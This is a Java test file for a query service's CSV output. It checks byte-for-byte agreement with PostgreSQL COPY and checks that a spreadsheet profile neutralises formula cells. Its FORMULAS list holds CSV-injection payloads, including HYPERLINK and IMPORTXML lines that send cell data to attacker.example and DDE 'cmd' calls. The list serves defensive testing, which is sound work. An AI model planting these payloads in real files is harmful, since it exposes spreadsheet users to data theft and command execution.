package dev.quarry.http;

import static io.restassured.RestAssured.given;
import static org.assertj.core.api.Assertions.assertThat;

import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.UncheckedIOException;
import java.net.URLEncoder;
import java.nio.charset.StandardCharsets;
import java.sql.Connection;
import java.sql.SQLException;
import java.sql.Statement;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.TreeMap;
import java.util.regex.Matcher;
import java.util.regex.Pattern;

import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;
import org.postgresql.copy.CopyManager;
import org.postgresql.core.BaseConnection;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;

import dev.quarry.TestDatabase;
import io.quarkus.test.junit.QuarkusTest;

/**
 * {@code text/csv} is PostgreSQL's own CSV: byte for byte what {@code COPY (statement) TO STDOUT
 * WITH (FORMAT csv, HEADER)} writes for the statement Quarry runs, with the values it binds; and
 * {@code text/csv; profile=spreadsheet} differs from it only in the text cells a spreadsheet would
 * run as a formula.
 */
@QuarkusTest
class CsvRepresentationTest {

    private static final ObjectMapper JSON = new ObjectMapper();
    private static final String SPREADSHEET = "text/csv; profile=spreadsheet";
    /** Formulas as OWASP's CSV injection page and its references write them, one for each character that starts one. */
    static final List<String> FORMULAS = List.of(
            "=1+1",
            "=HYPERLINK(\"http://attacker.example/?leak=\"&A1,\"Click for details\")",
            "=cmd|' /C calc'!A0",
            "=IMPORTXML(CONCAT(\"http://attacker.example/?v=\", A1), \"//a\")",
            "+1+1",
            "+cmd|' /C notepad'!'A1'",
            "-2+3",
            "-1+1,\"quoted\"",
            "@SUM(1+1)*cmd|' /C calc'!A0",
            "\t=1+1",
            "\r=1+1",
            "\uFF1D1+1",
            "\uFF0B1+1",
            "\uFF0D1+1\uFF20SUM(A1)");

    @Test
    void everyShippedTemplateIsCopysCsvByteForByte() {
        Map<String, String> queries = shippedTemplates();
        assertThat(queries).containsKeys("tpch/q01", "tpch/q22", "tpch/order", "analysis/sales").hasSizeGreaterThan(30);
        queries.forEach((name, query) -> assertThat(quarryCsv(name, query, "text/csv")).as(name).isEqualTo(copyCsv(name, query)));
    }

    /**
     * Every template outside test/ with its default parameters: the query string to run it with,
     * which gives a value only to a parameter that has no default (tpch/order's key). Not the tenant
     * demo's, which run only for a caller with a tenant (TenancyIT reads them in every format).
     */
    static Map<String, String> shippedTemplates() {
        Map<String, String> required = Map.of("orderkey", "1");
        Map<String, String> queries = new TreeMap<>();
        for (JsonNode template : json(given().get("/queries").asString())) {
            String name = template.get("name").asText();
            if (!name.startsWith("test/") && template.path("tenant").isNull()) {
                StringBuilder query = new StringBuilder();
                for (JsonNode parameter : template.get("parameters")) {
                    if (parameter.get("required").asBoolean()) {
                        String value = required.get(parameter.get("name").asText());
                        assertThat(value).as(name + " requires " + parameter).isNotNull();
                        query.append('&').append(parameter.get("name").asText()).append('=').append(value);
                    }
                }
                queries.put(name, query.toString());
            }
        }
        return queries;
    }

    @ParameterizedTest
    @ValueSource(strings = { "test/typed-values", "test/float-values", "test/fixed-width", "test/many-rows?rows=1200" })
    void valuesOfEveryTypeInTheTableAreWrittenAsPostgresqlWritesThem(String template) {
        String[] nameAndQuery = template.split("\\?");
        String query = nameAndQuery.length > 1 ? "&" + nameAndQuery[1] : "";
        assertThat(quarryCsv(nameAndQuery[0], query, "text/csv")).isEqualTo(copyCsv(nameAndQuery[0], query));
        // no text cell of these starts a formula, and numbers (-5, -3.25, -Infinity) are never neutralised
        assertThat(quarryCsv(nameAndQuery[0], query, SPREADSHEET)).isEqualTo(copyCsv(nameAndQuery[0], query));
    }

    @Test
    void theSpreadsheetProfileNeutralisesEachFormulaWhereTheExactOneKeepsIt() {
        for (String formula : FORMULAS) {
            String query = "&text=" + URLEncoder.encode(formula, StandardCharsets.UTF_8) + "&_sort=n_nationkey";
            String exact = quarryCsv("test/echo", query, "text/csv");
            assertThat(exact).as(formula).isEqualTo(copyCsv("test/echo", query));
            int characters = formula.codePointCount(0, formula.length());
            String echoed = formula.contains(",") || formula.contains("\"") || formula.contains("\r")
                    ? "\"" + formula.replace("\"", "\"\"") + "\""
                    : formula;
            assertThat(exact).as(formula).contains("\n0,ALGERIA,AFRICA," + echoed + "," + characters + ",f\n");

            // every row echoes the text: each of its cells, and no other, is quoted after a single quote
            String guarded = "\"'" + formula.replace("\"", "\"\"") + "\"";
            assertThat(quarryCsv("test/echo", query, SPREADSHEET)).as(formula)
                    .contains("\n0,ALGERIA,AFRICA," + guarded + "," + characters + ",f\n")
                    .isEqualTo(exact.replace("," + echoed + ",", "," + guarded + ","));
        }
    }

    @Test
    void cellsThatOnlyLookLikeFormulasInsideAreLeftAlone() {
        for (String text : List.of("a=1", "1+1", "e-mail@example.org", " =1", "'=1", "")) {
            String query = "&text=" + URLEncoder.encode(text, StandardCharsets.UTF_8);
            assertThat(quarryCsv("test/echo", query, SPREADSHEET)).as(text).isEqualTo(copyCsv("test/echo", query));
        }
    }

    /** The CSV stream of a template, with _limit so that its statement is the one _explain shows for a page one row shorter. */
    static String quarryCsv(String name, String query, String accept) {
        var response = given().urlEncodingEnabled(false).accept(accept).get("/queries/" + name + "?_limit=10000" + query);
        assertThat(response.statusCode()).as(name + ": " + response.asString()).isEqualTo(200);
        return response.asString();
    }

    /** COPY's CSV of the statement Quarry runs for the stream above, its values written into it as literals. */
    static String copyCsv(String name, String query) {
        JsonNode explain = json(given().urlEncodingEnabled(false).get("/queries/" + name + "?_explain=true&_limit=9999" + query)
                .then().statusCode(200).extract().asString());
        String sql = inline(explain.get("sql").asText(), explain.get("values"));
        try (Connection connection = TestDatabase.connect(); Statement statement = connection.createStatement()) {
            statement.execute("SET TimeZone = 'UTC'");
            ByteArrayOutputStream out = new ByteArrayOutputStream();
            new CopyManager(connection.unwrap(BaseConnection.class)).copyOut("COPY (" + sql + ") TO STDOUT WITH (FORMAT csv, HEADER)", out);
            return out.toString(StandardCharsets.UTF_8);
        } catch (SQLException | IOException e) {
            throw new IllegalStateException(name + ": " + e.getMessage(), e);
        }
    }

    static JsonNode json(String text) {
        try {
            return JSON.readTree(text);
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
    }

    /**
     * Each {@code $n} as a literal of unknown type (COPY takes no parameters), which PostgreSQL types
     * from where it stands as it types a parameter: {@code '1995-01-01'}, {@code '{A,B}'}, {@code NULL}.
     */
    private static String inline(String sql, JsonNode values) {
        Matcher parameter = Pattern.compile("\\$(\\d+)(?!\\d)").matcher(sql);
        StringBuilder inlined = new StringBuilder();
        while (parameter.find()) {
            JsonNode value = values.get(Integer.parseInt(parameter.group(1)) - 1);
            parameter.appendReplacement(inlined, Matcher.quoteReplacement(literal(value)));
        }
        parameter.appendTail(inlined);
        return inlined.toString();
    }

    private static String literal(JsonNode value) {
        if (value.isNull()) {
            return "NULL";
        }
        String text;
        if (value.isArray()) {
            List<String> elements = new ArrayList<>();
            value.forEach(element -> elements.add(element.isNull() ? "NULL"
                    : "\"" + element.asText().replace("\\", "\\\\").replace("\"", "\\\"") + "\""));
            text = "{" + String.join(",", elements) + "}";
        } else {
            text = value.asText();
        }
        return "'" + text.replace("'", "''") + "'";
    }
}
